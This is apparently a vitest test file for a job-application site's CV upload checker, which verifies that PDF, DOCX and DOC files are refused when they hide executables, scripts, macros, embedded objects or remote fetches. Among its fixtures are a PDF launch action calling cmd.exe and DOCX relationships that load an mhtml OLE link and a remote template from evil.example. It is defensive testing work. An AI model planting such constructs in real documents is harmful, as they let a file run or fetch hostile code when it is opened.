import { describe, expect, it } from "vitest";
import { checkCv, mayBeCv } from "./career-upload.server";
import { inspectDoc, inspectDocx, inspectPdf } from "./cv-inspection.server";
import { objectStream, sampleCompoundFile, sampleDocx, sampleElf, sampleExe, samplePdf, zipOf } from "./cv-samples.server";

// Crafted in code: what a CV may be, and the files that only pretend to be one or carry more.

describe("a PDF's structure and content", () => {
  it("accepts a PDF with a cross-reference table or a cross-reference stream", () => {
    expect(inspectPdf(samplePdf())).toBe("ok");
    expect(inspectPdf(samplePdf("CV", { xrefStream: true }))).toBe("ok");
    expect(inspectPdf(samplePdf("CV", { extraObjects: [objectStream(7, "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://giulia.example) >> >>")] }))).toBe("ok");
  });

  it("refuses a PDF header over anything else: an ELF body, text, a cut-off file", () => {
    const elfInside = Buffer.concat([Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1"), sampleElf(), Buffer.alloc(64 * 1024, 0x90)]);
    expect(inspectPdf(elfInside)).toBe("type");
    expect(inspectPdf(Buffer.concat([elfInside, Buffer.from("\n%%EOF\n")]))).toBe("type");
    expect(inspectPdf(Buffer.from("%PDF-1.4\nCurriculum vitae\n%%EOF\n"))).toBe("type");
    const pdf = samplePdf();
    expect(inspectPdf(pdf.subarray(0, pdf.length - 40))).toBe("type");
    // startxref pointing anywhere but a cross-reference.
    expect(inspectPdf(Buffer.from(pdf.toString("latin1").replace(/startxref\n\d+/, "startxref\n9"), "latin1"))).toBe("type");
  });

  it("refuses scripts, launch actions, attached files and encryption, written plainly, escaped or compressed", () => {
    const active = [
      "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
      "<< /Type /Action /S /Launch /F (cmd.exe) >>",
      "<< /Type /Filespec /F (cv.exe) /EF << /F 9 0 R >> >>\n% an /EmbeddedFile stream",
      "<< /Names << /EmbeddedFiles 9 0 R >> >>",
      "<< /Type /Action /S /J#61vaScript /JS (x) >>",
    ];
    for (const object of active) {
      expect(inspectPdf(samplePdf("CV", { extraObjects: [object] })), object).toBe("content");
      expect(inspectPdf(samplePdf("CV", { extraObjects: [objectStream(7, object)] })), `compressed ${object}`).toBe("content");
    }
    expect(inspectPdf(samplePdf("CV", { trailer: " /Encrypt 9 0 R" }))).toBe("content");
    // An object stream that cannot be read is not clean either.
    expect(inspectPdf(samplePdf("CV", { extraObjects: ["<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 5 >>\nstream\nxxxxx\nendstream"] }))).toBe("content");
  });
});

describe("a PDF's inspection at its edges", () => {
  it("rejects a file of digits in linear time, not hours (bounded object headers)", () => {
    // A real cross-reference table at the end, so the scan reaches the 4 MiB of digits.
    const head = Buffer.concat([Buffer.from("%PDF-1.4\n", "latin1"), Buffer.alloc(4 * 1024 * 1024, "7"), Buffer.from("\n", "latin1")]);
    const digits = Buffer.concat([head, Buffer.from(`xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n${head.length}\n%%EOF\n`, "latin1")]);
    const started = performance.now();
    inspectPdf(digits);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it("reads an object stream after a name written with #xx escapes (a font's name, a photo's bytes)", () => {
    const withFontName = samplePdf("CV", { extraObjects: ["<< /Type /Font /BaseFont /ABCDEE+Calibri#20Light#20Italic >>", objectStream(8, "<< /Type /Annot /Subtype /Text >>")] });
    expect(inspectPdf(withFontName)).toBe("ok");
  });

  it("refuses an object stream with a predictor, which would hide its names from the search", () => {
    const predicted = objectStream(7, "<< /S /JavaScript /JS (x) >>").replace("/Filter /FlateDecode", "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>");
    expect(inspectPdf(samplePdf("CV", { extraObjects: [predicted] }))).toBe("content");
  });
});

describe("a DOCX's content types and parts", () => {
  it("accepts a Word document, stored or deflated, with Word's printer settings", () => {
    expect(inspectDocx(sampleDocx())).toBe("ok");
    expect(inspectDocx(sampleDocx({ deflate: true }))).toBe("ok");
    const printer = sampleDocx({
      declarations: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"/>',
      parts: { "word/printerSettings/printerSettings1.bin": "DEVMODE" },
    });
    expect(inspectDocx(printer)).toBe("ok");
  });

  it("refuses macros, ActiveX, OLE objects and executables, declared or only present", () => {
    const bad = [
      sampleDocx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml", deflate: true }),
      sampleDocx({ declarations: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>', parts: { "word/vbaProject.bin": "VBA" } }),
      sampleDocx({ parts: { "word/vbaProject.bin": "VBA" } }),
      sampleDocx({ parts: { "word/embeddings/oleObject1.bin": "MZ" } }),
      sampleDocx({ parts: { "word/embeddings/setup.exe": "MZ" } }),
      sampleDocx({ parts: { "word/media/helper.dll": "MZ" } }),
      sampleDocx({ parts: { "word/activeX/activeX1.xml": "<ax:ocx/>" } }),
      sampleDocx({ declarations: '<Override PartName="/word/embeddings/x.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>' }),
    ];
    bad.forEach((docx, i) => expect(inspectDocx(docx), `case ${i}`).toBe("content"));
  });

  it("refuses a ZIP that is no Word document: no content types, no main document, a main part that is missing, a broken directory", () => {
    expect(inspectDocx(zipOf({ "word/document.xml": "<w:document/>" }))).toBe("type");
    expect(inspectDocx(sampleDocx({ mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }))).toBe("type");
    const docx = sampleDocx();
    expect(inspectDocx(docx.subarray(0, docx.length - 30))).toBe("type");
    const missingMain = zipOf({ "[Content_Types].xml": `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>` });
    expect(inspectDocx(missingMain)).toBe("type");
  });
});

describe("a DOCX's relationships", () => {
  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const documentRels = (relationship: string) =>
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
  const withRels = (relationship: string, deflate = false) => sampleDocx({ parts: { "word/_rels/document.xml.rels": documentRels(relationship) }, deflate });

  it("keeps a link to the applicant's site", () => {
    expect(inspectDocx(withRels(`<Relationship Id="rId9" Type="${R}/hyperlink" Target="https://giulia.example" TargetMode="External"/>`))).toBe("ok");
  });

  it("refuses what Word would fetch or import on opening: an mhtml OLE link, a remote template, an imported chunk, an RTF part", () => {
    const active = [
      `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>`,
      `<Relationship Id="rId9" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
      `<Relationship Id="rId9" Type="${R}/aFChunk" Target="chunk.rtf"/>`,
    ];
    for (const relationship of active) {
      expect(inspectDocx(withRels(relationship)), relationship).toBe("content");
      expect(inspectDocx(withRels(relationship, true)), `deflated ${relationship}`).toBe("content");
    }
    expect(inspectDocx(sampleDocx({ declarations: '<Default Extension="rtf" ContentType="application/rtf"/>' }))).toBe("content");
  });
});

describe("a DOC's storages", () => {
  it("accepts a Word 97–2003 document, with the empty ObjectPool Word writes", () => {
    expect(inspectDoc(sampleCompoundFile("WordDocument"))).toBe("ok");
    expect(inspectDoc(sampleCompoundFile("WordDocument", [["ObjectPool", "storage"]]))).toBe("ok");
  });

  it("refuses macros and embedded objects", () => {
    expect(inspectDoc(sampleCompoundFile("WordDocument", [["Macros", "storage"]]))).toBe("content");
    expect(inspectDoc(sampleCompoundFile("WordDocument", [["_VBA_PROJECT_CUR", "storage"]]))).toBe("content");
    expect(inspectDoc(sampleCompoundFile("WordDocument", [["ObjectPool", "storage"], ["_1234567890", "storage"]]))).toBe("content");
    expect(inspectDoc(sampleCompoundFile("WordDocument", [["\u0001Ole10Native", "stream"]]))).toBe("content");
  });
});

describe("the verdict the applicant sees", () => {
  const received = (bytes: Buffer, fileName: string) => ({ bytes, fileName, truncated: false });

  it("a fake is the type's error, active content its own", async () => {
    const elfInside = Buffer.concat([Buffer.from("%PDF-1.7\n"), sampleElf()]);
    expect(await checkCv(received(elfInside, "cv.pdf"))).toEqual({ ok: false, error: "career:validation.cvType" });
    const macro = sampleDocx({ parts: { "word/vbaProject.bin": "VBA" }, deflate: true });
    expect(await checkCv(received(macro, "cv.docx"))).toEqual({ ok: false, error: "career:validation.cvContent" });
    const script = samplePdf("CV", { extraObjects: ["<< /S /JavaScript /JS (x) >>"] });
    expect(await checkCv(received(script, "cv.pdf"))).toEqual({ ok: false, error: "career:validation.cvContent" });
    expect(await checkCv(received(sampleCompoundFile("WordDocument", [["Macros", "storage"]]), "cv.doc"))).toEqual({ ok: false, error: "career:validation.cvContent" });
    expect(await checkCv(received(samplePdf(), "cv.pdf"))).toMatchObject({ ok: true });
  });

  it("the first bytes let through what may be a CV and stop the rest", async () => {
    expect(await mayBeCv(samplePdf().subarray(0, 4100))).toBe(true);
    expect(await mayBeCv(sampleDocx().subarray(0, 64))).toBe(true);
    expect(await mayBeCv(sampleCompoundFile("WordDocument").subarray(0, 1024))).toBe(true);
    expect(await mayBeCv(sampleElf())).toBe(false);
    expect(await mayBeCv(sampleExe())).toBe(false);
    expect(await mayBeCv(Buffer.alloc(4100, 0x41))).toBe(false);
  });
});
